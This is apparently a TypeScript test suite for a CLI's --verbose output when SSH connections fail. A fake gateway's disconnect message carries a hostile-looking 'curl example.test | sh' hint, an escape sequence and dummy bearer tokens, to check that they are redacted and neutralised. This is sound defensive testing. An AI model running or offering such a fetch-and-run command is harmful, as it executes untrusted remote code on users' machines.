import assert from 'node:assert/strict'
import {execFileSync} from 'node:child_process'
import {readFileSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {type RawServer, startRawServer} from '../support/raw-server.ts'
import type {Run} from '../support/runcode.ts'
import {needSshd, type SshdWorkspace, startSshdWorkspace} from '../support/sshd-workspace.ts'

/** What ssh offers, and a reason to hang up (RFC 4253 section 11.1) in words that are for a person, and for a thief. */
const HANG_UP = 'bye\u001b[2J\nhint: curl example.test | sh\nAuthorization: Bearer abc.def and rc_test-token'

describe('--verbose', function () {
  this.timeout(60_000)
  let workspace: SshdWorkspace
  let gateway: RawServer
  let closedPort = 0
  let otherKey = ''

  before(async function () {
    needSshd(this)
    workspace = await startSshdWorkspace()
    gateway = await startRawServer((socket) => {
      socket.write('SSH-2.0-test\r\n')
      socket.once('data', () => socket.end(disconnect(HANG_UP)))
    })
    const closed = await startRawServer(() => undefined)
    closedPort = closed.port
    closed.close()
    writeFileSync(join(workspace.tree, 'file'), 'x')
    const file = join(workspace.home.path, 'other')
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', file])
    otherKey = readFileSync(`${file}.pub`, 'utf8').split(' ', 2).join(' ')
  })
  after(async () => {
    gateway?.close()
    await workspace?.remove()
  })

  /** The bundle of the next pass, and of all that follow. */
  const give = (change: Readonly<Record<string, unknown>>): void => {
    const {port, user, hostKey} = workspace.sshd
    const to = {port, user, key: hostKey, ...change}
    Object.assign(workspace.bundle, {
      ...{port: to.port, user: to.user, known_hosts: `[127.0.0.1]:${to.port} ${to.key}\n`},
    })
  }
  const json = async (...args: string[]): Promise<Readonly<Record<string, unknown>>> => {
    const {stdout, stderr} = await workspace.run([...args.slice(0, 1), '--json', ...args.slice(1)])
    assert.equal(stderr, '')
    return JSON.parse(stdout)
  }

  for (const [what, change, words] of [
    ['another host key', () => ({key: otherKey}), /^ {2}Host key verification failed\.$/m],
    ['a refused key', () => ({user: 'stranger'}), /^ {2}stranger@127\S+: Permission denied \(/m],
    ['a port where nobody is', () => ({port: closedPort}), /^ {2}ssh: connect to host 127.*refused$/m],
    ['a gateway that hangs up', () => ({port: gateway.port}), /^ {2}Received disconnect from 127/m],
  ] as const)
    it(`shows what ssh said of ${what}, and without it no word of that`, async () => {
      give(change())
      const quiet = await workspace.run(['connect', 'calm-reed', '--force'])
      const said = await workspace.run(['connect', 'calm-reed', '-v', '--force'])
      const [failure, hint, header, ...quotation] = failureIn(said)
      assert.deepEqual([failure, hint], failureIn(quiet))
      assert.equal(header, 'OpenSSH said:')
      assert.ok(
        quotation.every((line) => line.startsWith('  ')),
        said.stderr,
      )
      assert.match(quotation.join('\n'), words)
      assert.equal(said.stdout, quiet.stdout)
    })

  it('shows no secret, and nothing that looks like a line of ours, whatever a gateway says', async () => {
    give({port: gateway.port})
    const {stderr} = await workspace.run(['connect', 'calm-reed', '--verbose', '--force'])
    assert.match(stderr, /Bearer <secret> and <token>/)
    assert.ok(!stderr.includes('\u001b'), stderr)
    assert.equal(stderr.match(/^hint: /gm)?.length, 1, stderr)
  })

  const OTHERS: Readonly<Record<string, readonly string[]>> = {
    'exec, read the short way': ['exec', '-w', 'calm-reed', '--verbose', '--', 'true'],
    'exec, read by oclif': ['exec', '-wcalm-reed', '--verbose', '--', 'true'],
    'ssh with a command': ['ssh', 'calm-reed', '-v', '--', 'true'],
    connect: ['connect', 'calm-reed', '--verbose'],
    put: ['put', '-w', 'calm-reed', '--verbose', 'file', 'there'],
    get: ['get', '-w', 'calm-reed', '--verbose', 'there'],
    'port-forward': ['port-forward', '-w', 'calm-reed', '--verbose', '0:80'],
    'port-forward in the background': ['port-forward', '-w', 'calm-reed', '--verbose', '--background', '0:80'],
  }
  describe('where the gateway shows another host key', () => {
    before(async () => {
      give({key: otherKey})
      await workspace.run(['connect', 'calm-reed', '--force'])
    })

    for (const [what, args] of Object.entries(OTHERS))
      it(`has the words of ssh, each line an element of the object: ${what}`, async () => {
        const {error, ssh_said: lines} = await json(...args)
        assert.equal(error, 'host_key_changed')
        assert.ok((lines as string[]).includes('Host key verification failed.'), String(lines))
      })

    it('shows nothing of them to whoever did not ask', async () => {
      const object = await json('exec', '-w', 'calm-reed', '--', 'true')
      assert.deepEqual([object['error'], 'ssh_said' in object], ['host_key_changed', false])
    })

    it('has them for a shell', async () => {
      const shell = await workspace.run(['ssh', 'calm-reed', '-v'])
      assert.equal(shell.status, 125)
      assert.match(shell.stderr, /\nOpenSSH said:\n(?: {2}.*\n)* {2}Host key verification failed\.\n$/)
    })
  })
})

/** The lines behind those of the progress. */
const failureIn = ({stderr}: Run): readonly string[] => stderr.slice(stderr.indexOf('runcode: ')).trimEnd().split('\n')

/** A message that ends a connection before any key is agreed on, as a packet (RFC 4253 section 6). */
const disconnect = (words: string): Buffer => {
  const text = Buffer.from(words)
  const payload = Buffer.concat([Buffer.of(1), uint32(2), uint32(text.length), text, uint32(0)])
  const padding = 16 - ((payload.length + 5) % 8)
  return Buffer.concat([...[uint32(payload.length + padding + 1), Buffer.of(padding), payload], Buffer.alloc(padding)])
}

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
